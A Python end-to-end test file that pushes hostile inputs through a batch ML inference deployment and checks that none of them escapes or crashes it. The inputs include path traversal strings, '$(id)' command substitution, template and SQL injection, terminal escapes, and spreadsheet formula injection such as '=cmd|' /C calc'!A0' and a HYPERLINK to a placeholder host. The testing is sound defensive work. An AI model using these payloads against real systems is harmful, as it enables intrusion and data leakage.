"""Input as an attacker would send it, through all of what is deployed: nothing escapes, nothing crashes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from botocore.exceptions import ClientError

from jobs import uploads
from jobs.names import generated
from jobs.objects import keys
from jobs.rows import neutral
from lambda_src.contract import SUBMITTED, job_prefix, request_prefix
from model import examples, train
from tests.e2e.client import Client, Ran, client_of
from tests.e2e.deployment import Deployment
from tests.synthesis import STACKS

Record = dict[str, Any]

LINK = "\x1b]8;;http://a.example\x07click\x1b]8;;\x07"
TEXTS = [
    *("../../x", "/etc/passwd", "..", "C:\\x", "a/../../../b", "jobs/other/summary.json"),
    *("{{ 7*7 }}", "${HOME}", "$(id)", "`id`", "{% $states.context.Execution.Id %}", "$states.input", "%n%s", "#{1}"),
    *("\x1b[31mred\x1b[2J", LINK, "bell\x07", "\u202egnp.exe", "two\nlines\r\n", "nul\x00", "\x9b31m", "[red]x[/red]"),
    *('=HYPERLINK("http://a.example?"&A1)', "+1+1", "-1-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1"),
    *("<script>alert(1)</script>", "'; DROP TABLE x;--", ":smile:", "null", "-1.5", "\ufeff"),
]
"""Ids and cells that paths, templates, terminals, spreadsheets or other readers might take for more than text."""

DEEP = "[" * 10_000 + "]" * 10_000
NUMBERS = ["9" * 200_000, "1e999", "-1e999", "NaN", "Infinity", "1e" + "9" * 1_000]


@pytest.fixture(scope="module")
def client(deployment: Deployment, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Client]:
    with client_of(deployment, tmp_path_factory.mktemp("hostile")) as client:
        yield client


@pytest.fixture(scope="module")
def good() -> list[Record]:
    return examples.records(train.load())


def hostile(good: list[Record]) -> list[Record]:
    """Each text as the id of a good record, and as a value of one that is rejected for it."""
    named = [{**good[at], "id": text} for at, text in enumerate(TEXTS)]
    rejected = [{**good[0], "id": f"bad-{at}", "mean area": text} for at, text in enumerate(TEXTS)]
    return [*named, *rejected]


def check_said(ran: Ran) -> None:
    """Nothing that a command says is anything but lines of visible text."""
    for text in (ran.out, ran.err):
        assert text.replace("\n", "").isprintable(), text
    assert "Traceback" not in ran.err


def everything(client: Client) -> set[str]:
    stack = client.stack()
    return set(keys(stack.s3, stack.bucket, ""))


def test_a_csv_file_of_deceptions_is_data_from_one_end_to_the_other(client: Client, good: list[Record]) -> None:
    given = hostile(good)
    text = io.StringIO()
    writer = csv.DictWriter(text, list(given[0]), quoting=csv.QUOTE_ALL)
    writer.writeheader()
    # The readers' own rules: a backslash is written twice.
    writer.writerows({name: str(value).replace("\\", "\\\\") for name, value in record.items()} for record in given)
    file = client.write("=1+1 \x1b[31m..{% 1 %}.csv", "\ufeff" + text.getvalue())
    job, before = generated("hostile"), everything(client)

    submitted = client.run("submit", file, "--wait", "--name", job)

    check_said(submitted)
    assert submitted.status == 0, submitted.err
    count = len(TEXTS)
    # One of the texts is a number, and so no mistake.
    assert f"{2 * count} in: {count + 1} predicted, {count - 1} rejected, 0 failed" in submitted.out
    results = client.results(job)
    assert [results.predictions[at]["id"] for at in range(count)] == TEXTS
    lines = results.rejected.values()
    assert {line["record"]["mean area"] for line in lines} == set(TEXTS) - {"-1.5"}
    assert all(next(iter(line["record"])) == "id" for line in lines)
    assert all(line["cause"].isprintable() for line in lines)
    for command in ("status", "list", "retry"):
        check_said(client.run(command, *([] if command == "list" else [job])))
    written = client.folder / "written.csv"
    check_said(client.run("results", job, "--output", written))
    _, *rows = csv.reader(io.StringIO(written.read_bytes().decode(), newline=""))
    assert [row[0] for row in rows[:count]] == [neutral(text) for text in TEXTS]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\uff1d"))]
    check_said(ran := client.run("results", job, "--format", "jsonl"))
    assert [json.loads(line)["id"] for line in ran.out.split("\n")[:count]] == TEXTS
    new = {key for key in everything(client) - before if not key.startswith(f"{SUBMITTED}{job}-retry-")}
    again = {key for key in new if key.startswith(job_prefix(f"{job}-retry-"))}
    assert {key for key in new - again if not key.startswith((f"{job_prefix(job)}/", f"{SUBMITTED}{job}/"))} == set()
    assert all(key.isprintable() for key in new)


@pytest.mark.parametrize("stack", STACKS)
def test_a_request_of_deceptions_is_data_from_one_end_to_the_other(
    deployment: Deployment, good: list[Record], stack: str
) -> None:
    name = "..".join(["it's", "(x)!"])
    execution = deployment.execute(stack, {"records": hostile(good)}, name)
    output = execution.output
    assert {line["record"]["mean area"] for line in output["rejected"]} == set(TEXTS) - {"-1.5"}
    assert all(line["cause"].isprintable() for line in output["rejected"])
    if stack == "MlWorkflowStack":
        predictions = output["predictions"]
    else:
        bucket = deployment.outputs[stack]["ResultsBucketUri"]
        assert output["results"] == f"{bucket}/{request_prefix(name)}/predictions/part-000000000000.jsonl"
        predictions = [json.loads(line) for line in deployment.stored(output["results"]).split(b"\n") if line]
    assert [row["id"] for row in predictions][: len(TEXTS)] == TEXTS


@pytest.mark.parametrize("name", ["../../x", "/etc/passwd", "a" * 81, "nul\0", "{% 1 %}", "\x1b[31m", "a\nb", "$x"])
def test_a_name_that_is_a_path_a_template_or_a_code_starts_nothing(deployment: Deployment, name: str) -> None:
    states = deployment.client("stepfunctions")
    machine = deployment.outputs["InferenceStack"]["BatchJobArn"]
    with pytest.raises(ClientError, match=r"InvalidName|ValidationException"):
        states.start_execution(stateMachineArn=machine, name=name, input="{}")


def test_a_name_of_dots_leads_nowhere_else(deployment: Deployment, client: Client, good: list[Record]) -> None:
    before = everything(client)
    output = deployment.execute("InferenceStack", {"records": good[:1]}, "..").output
    assert output["results"].endswith("/requests/../predictions/part-000000000000.jsonl")
    assert everything(client) - before == {"requests/../predictions/part-000000000000.jsonl"}
    client.start("..", client.put("dots", "a.json", json.dumps(good[:1]).encode()))
    ended = client.ended("..")
    assert (ended.status, ended.error) == ("FAILED", "InvalidJob"), ended
    assert "a job's name" in str(ended.cause)


@pytest.mark.parametrize("stack", STACKS)
@pytest.mark.parametrize("value", [DEEP, *NUMBERS], ids=["deep", "digits", "inf", "-inf", "nan", "word", "exponent"])
def test_a_request_that_no_reader_can_take_starts_nothing(
    deployment: Deployment, good: list[Record], stack: str, value: str
) -> None:
    text = json.dumps({"records": good[:2]}).replace(str(good[0]["mean area"]), value, 1)
    with pytest.raises(ClientError, match="InvalidExecutionInput"):
        deployment.start(stack, text)


@pytest.mark.parametrize("form", ["jsonl", "json"])
@pytest.mark.parametrize(
    ("value", "reason"),
    [
        (DEEP, "deep|depth"),
        ("9" * 10_000_000, "longer than|digits|characters|infinity"),
        ("1e999", "no double|infinity"),
    ],
    ids=["deep", "digits", "exponent"],
)
def test_a_data_set_that_no_reader_can_take_fails_its_job_with_the_reason_and_reads_as_an_error(
    client: Client, good: list[Record], form: str, value: str, reason: str
) -> None:
    # Behind what CheckJob looks at.
    texts = [json.dumps({**good[at % len(good)], "id": at}) for at in range(200)]
    texts.append(json.dumps(good[0]).replace(str(good[0]["mean area"]), value, 1))
    texts.append(json.dumps(good[1]))
    body = "\n".join(texts) if form == "jsonl" else f"[{','.join(texts)}]"
    job = generated("unreadable")
    client.start(job, client.put(job, f"a.{form}", body.encode()))

    ended = client.ended(job)

    assert (ended.status, ended.error) == ("FAILED", "States.ItemReaderFailed"), ended.cause
    assert pytest.approx(ended.summary and ended.summary["records"]["in"]) == 0
    for command in ("status", "results", "retry"):
        ran = client.run(command, job)
        check_said(ran)
        assert len(ran.err.splitlines()) <= 2


def test_objects_with_deceiving_keys_and_contents_are_predicted_or_rejected_one_by_one(
    client: Client, good: list[Record]
) -> None:
    job, stack = generated("keys"), client.stack()
    names = [text.replace("\x00", "\x01").replace("\r", "") for text in TEXTS if text not in ("..", "\ufeff")]
    contents: list[tuple[bytes, str]] = [
        (DEEP.encode(), "NotJson"),
        (json.dumps(good[0]).replace("17.99", DEEP).encode(), "NotJson"),
        (json.dumps(good[0]).replace("17.99", "9" * 100_000).encode(), "NotJson"),
        (json.dumps(good[0]).replace("17.99", "1e999").encode(), "NotFinite"),
        (json.dumps(good[0]).replace("17.99", "NaN").encode(), "NotFinite"),
        (b'"' + b"x" * 20_000_000 + b'"', "RecordTooLarge"),
    ]
    for at, name in enumerate(names):
        client.put(job, f"{at:03d}-{name}", json.dumps(good[at]).encode())
    for at, (body, _) in enumerate(contents):
        client.put(job, f"z{at}.json", body)
    before = everything(client)
    client.start(job, uploads.incoming_prefix(job))

    ended = client.ended(job)

    assert ended.status == "SUCCEEDED", ended.cause
    results = client.results(job)
    assert sorted(results.predictions) == list(range(len(names)))
    assert [results.rejected[len(names) + at]["error"] for at in range(len(contents))] == [it for _, it in contents]
    assert all(key.startswith(f"{job_prefix(job)}/") for key in everything(client) - before)
    for command in ("status", "results", "retry"):
        check_said(ran := client.run(command, job))
        assert ran.status == 0, ran.err
    assert all(key.isprintable() for key in keys(stack.s3, stack.bucket, f"{SUBMITTED}{job}-retry-"))
